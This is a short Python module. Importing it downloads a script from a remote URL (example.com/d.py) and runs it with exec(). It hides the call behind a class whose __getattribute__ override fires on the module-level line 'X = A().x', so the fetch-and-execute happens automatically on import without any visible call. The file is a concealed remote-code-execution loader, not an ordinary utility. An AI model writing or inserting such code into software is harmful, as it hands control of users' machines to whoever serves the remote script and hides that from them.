import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


class A:
    def __getattribute__(self, name):
        _go()
        return None


X = A().x
